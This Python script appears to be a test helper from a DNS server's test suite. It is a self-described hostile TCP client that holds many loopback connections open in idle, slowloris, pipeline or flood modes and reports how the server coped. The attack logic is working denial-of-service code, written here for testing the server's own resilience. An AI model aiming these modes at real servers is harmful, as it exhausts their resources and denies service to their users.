#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""A hostile DNS TCP client for tests/attack/dns_tcp.sh: holds many
connections to a server from one or more loopback source addresses and keeps
them there (reopening what the server closes, at most every 50 ms each) until
SIGTERM or --hold seconds, then prints what it saw as key=value.

  dns_tcp_attack.py MODE HOST PORT --src 127.0.0.2[,127.0.1.1-127.0.1.100] --n 1000
    idle       connect and send nothing
    slowloris  send one byte of the length prefix (odd connections: the
               prefix and half of a query), then one more byte every second
    pipeline   send queries back to back and never read the answers
    flood      connect as fast as the kernel lets it, send nothing
"""
import argparse
import errno
import resource
import selectors
import signal
import socket
import struct
import sys
import time


def addrs(spec):
    out = []
    for part in spec.split(","):
        if "-" in part:
            a, b = part.split("-")
            pa, pb = a.split("."), b.split(".")
            for i in range(int(pa[3]), int(pb[3]) + 1):
                out.append(".".join(pa[:3] + [str(i)]))
        else:
            out.append(part)
    return out


def query(name, qid):
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", 1, 1)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["idle", "slowloris", "pipeline", "flood"])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--src", required=True)
    ap.add_argument("--n", type=int, default=1000)
    ap.add_argument("--hold", type=float, default=60)
    ap.add_argument("--zone", default="bl.example.org")
    a = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, a.n + 256)), hard))
    srcs = addrs(a.src)
    stop = [False]
    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))
    sel = selectors.DefaultSelector()
    slots = [None] * a.n  # socket or None
    next_try = [0.0] * a.n
    opened_at = [0.0] * a.n
    stats = {"connects": 0, "connect_errors": 0, "closed_by_server": 0, "open_max": 0,
             "sent_bytes": 0, "lifetime_max_ms": 0}
    q = query("2.0.0.127." + a.zone, 7)
    msg = struct.pack(">H", len(q)) + q
    trickle = {}  # slot -> (bytes still to send, next send time)

    def close(i, by_server):
        s = slots[i]
        if s is None:
            return
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()
        slots[i] = None
        trickle.pop(i, None)
        if by_server:
            stats["closed_by_server"] += 1
            life = int((time.time() - opened_at[i]) * 1000)
            stats["lifetime_max_ms"] = max(stats["lifetime_max_ms"], life)
        next_try[i] = time.time() + (0 if a.mode == "flood" else 0.05)

    def open_one(i):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((srcs[i % len(srcs)], 0))
            s.settimeout(2)
            s.connect((a.host, a.port))
        except OSError:
            s.close()
            stats["connect_errors"] += 1
            next_try[i] = time.time() + 0.2
            return
        s.setblocking(False)
        slots[i] = s
        opened_at[i] = time.time()
        stats["connects"] += 1
        if a.mode != "pipeline":  # it never reads
            sel.register(s, selectors.EVENT_READ, i)
        if a.mode == "slowloris":
            rest = msg if i % 2 == 0 else msg[: 2 + len(q) // 2]
            trickle[i] = [rest, 0.0]
        elif a.mode == "pipeline":
            trickle[i] = [msg * 20000, 0.0]

    t_end = time.time() + a.hold
    while not stop[0] and time.time() < t_end:
        now = time.time()
        budget = 200  # connects per turn: the server's answers are read in between
        for i in range(a.n):
            if slots[i] is None and now >= next_try[i] and budget > 0:
                open_one(i)
                budget -= 1
        stats["open_max"] = max(stats["open_max"], sum(1 for s in slots if s is not None))
        for i, t in list(trickle.items()):
            rest, when = t
            if now < when or slots[i] is None:
                continue
            if a.mode == "slowloris":
                chunk = rest[:1]
                t[1] = now + 1.0
            else:
                chunk = rest[:65536]
            try:
                n = slots[i].send(chunk)
            except BlockingIOError:
                n = 0
            except OSError:
                close(i, True)
                continue
            stats["sent_bytes"] += n
            t[0] = rest[n:]
            if not t[0]:
                if a.mode == "pipeline":
                    t[0] = msg * 20000
                else:
                    del trickle[i]
        events = sel.select(timeout=0.05) if sel.get_map() else time.sleep(0.05) or []
        for key, _ in events:
            i = key.data
            try:
                data = key.fileobj.recv(4096)
            except (ConnectionResetError, BrokenPipeError):
                data = b""
            except BlockingIOError:
                continue
            if not data:
                close(i, True)
        if a.mode == "pipeline":
            # a connection the server closed shows as a failed send or a reset
            for i in range(a.n):
                s = slots[i]
                if s is None:
                    continue
                try:
                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        close(i, True)
                except OSError:
                    close(i, True)
    stats["open_at_end"] = sum(1 for s in slots if s is not None)
    for i in range(a.n):
        close(i, False)
    print(" ".join("%s=%s" % kv for kv in sorted(stats.items())))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
